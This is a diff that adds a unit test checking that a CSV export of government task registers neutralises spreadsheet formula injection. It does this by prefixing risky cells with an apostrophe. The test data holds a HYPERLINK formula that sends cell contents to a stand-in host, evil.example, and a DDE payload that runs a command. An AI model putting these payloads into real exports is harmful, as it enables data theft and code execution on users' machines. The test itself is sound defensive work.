@@ -171,6 +171,24 @@ describe('tasksToCsv', () => {
   });
 });
 
+describe('tasksToCsv and spreadsheet formulas', () => {
+  it('makes a cell that a spreadsheet would run as a formula text, with a leading apostrophe', () => {
+    const csv = tasksToCsv({ ...REGISTER, tasks: [makeTask('5', {
+      content: '=HYPERLINK("https://evil.example/?d="&B2,"Kế hoạch")',
+      product: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      leads: [{ name: '- Sở Tư pháp', orgId: null, slug: 'so-tu-phap' }],
+      coordinators: [{ name: '+ các sở', orgId: null, slug: 'cac-so' }],
+    })] });
+    const row = parseCsv(csv.slice(1))[1]!;
+    expect(row[5]).toBe('\'=HYPERLINK("https://evil.example/?d="&B2,"Kế hoạch")');
+    expect(row[9]).toBe('\'@SUM(1+1)*cmd|\' /C calc\'!A0');
+    expect([row[7], row[8]]).toEqual(['\'- Sở Tư pháp', '\'+ các sở']);
+    // Cells that merely contain those signs are left alone.
+    expect(row[4]).toBe('5.');
+    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
+  });
+});
+
 describe('tasksToIcs', () => {
   const OPTIONS = { name: 'Nhiệm vụ, Điện Biên', description: 'Hạn các nhiệm vụ của văn bản chỉ đạo.' };
   const text = tasksToIcs(REGISTER, OPTIONS);
